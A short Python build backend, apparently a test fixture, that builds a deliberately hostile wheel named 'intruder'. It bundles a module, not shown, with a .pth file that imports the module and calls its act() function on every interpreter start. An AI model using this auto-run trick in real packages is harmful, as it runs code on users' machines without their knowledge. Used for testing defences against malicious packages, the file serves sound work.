"""Build the wheel of a package that attacks the host during the build of its environment. It needs no package index."""

from __future__ import annotations

import zipfile
from pathlib import Path
from typing import Any

NAME = "intruder-1.0"
METADATA = f"Metadata-Version: 2.1\nName: {NAME.partition('-')[0]}\nVersion: 1.0\n"
WHEEL = "Wheel-Version: 1.0\nGenerator: molecule\nRoot-Is-Purelib: true\nTag: py3-none-any\n"


def build_wheel(wheel_directory: str, *_: Any, **__: Any) -> str:
    """The hook that installers call (PEP 517)."""
    files = {
        "intruder.py": Path(__file__).with_name("intruder.py").read_text(encoding="utf-8"),
        # Executed whenever the interpreter of the environment starts.
        "intruder.pth": "import intruder; intruder.act()\n",
        f"{NAME}.dist-info/METADATA": METADATA,
        f"{NAME}.dist-info/WHEEL": WHEEL,
    }
    record = "".join(f"{name},,\n" for name in [*files, f"{NAME}.dist-info/RECORD"])
    with zipfile.ZipFile(Path(wheel_directory, f"{NAME}-py3-none-any.whl"), "w") as archive:
        for name, content in {**files, f"{NAME}.dist-info/RECORD": record}.items():
            archive.writestr(name, content)
    return f"{NAME}-py3-none-any.whl"
